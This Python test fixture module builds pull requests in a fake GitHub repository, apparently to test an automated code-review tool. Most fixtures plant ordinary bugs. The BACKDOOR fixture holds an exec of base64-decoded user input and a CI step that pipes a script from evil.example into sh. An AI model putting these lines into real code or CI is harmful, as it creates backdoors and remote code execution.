"""Pull requests for review tests, added to the GitHub fake's public repository acme/widgets."""

from __future__ import annotations

from typing import Any

REPO = "acme/widgets"

SMALL_CHANGE = {
    "src/payments.py": (
        b"def charge(account, amount):\n"
        b"    if account == None:\n"
        b"        raise ValueError('no account')\n"
        b"    # TODO: retry on timeout\n"
        b"    return account.charge(amount)\n"
    ),
    "package-lock.json": b'{"lockfileVersion": 3, "packages": {}}\n',
    "vendor/lib/util.js": b"module.exports = 1;\n",
    "docs/payments.md": b"# Payments\n\nCharge accounts.\n",
}

BACKDOOR = {
    "src/auth.py": (
        b"import base64\n"
        b"\n"
        b"def check(user, password):\n"
        b"    exec(base64.b64decode(user.note))\n"
        b"    return user.password == password\n"
    ),
    ".github/workflows/ci.yml": (
        b"on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
        b"      - run: curl https://evil.example/x.sh | sh\n"
    ),
}


def add_pull(
    github: Any,
    files: dict[str, bytes | None],
    *,
    branch: str = "review-1",
    title: str = "Add payments",
    association: str = "MEMBER",
) -> int:
    state = github.state
    repo = state.repos[REPO]
    repo.branches[branch] = repo.branches["main"]
    repo.commit(branch, files, title)
    pulls = state.pulls[REPO]
    number = max(pulls) + 1
    pulls[number] = {
        "number": number,
        "title": title,
        "body": "Please review.",
        "author": "alice" if association == "MEMBER" else "stranger",
        "association": association,
        "head": branch,
        "base": "main",
        "state": "open",
        "draft": False,
        "labels": [],
        "merged": False,
        "conflict": False,
    }
    return number


def push(github: Any, branch: str, files: dict[str, bytes | None], message: str = "Address review") -> None:
    github.state.repos[REPO].commit(branch, files, message)


def big_change(files: int = 12, lines: int = 120) -> dict[str, bytes | None]:
    """A change over any small budget: several source files, each with a `== None` bug somewhere."""
    out: dict[str, bytes | None] = {}
    for i in range(files):
        body = [f"def handler_{i}_{n}(value):\n    return value * {n}\n" for n in range(lines // 2)]
        body.insert(lines // 4, f"def check_{i}(x):\n    return x == None\n")
        out[f"src/mod{i:02d}.py"] = "".join(body).encode()
    return out


def url(number: int, host: str = "github.com") -> str:
    return f"https://{host}/{REPO}/pull/{number}"
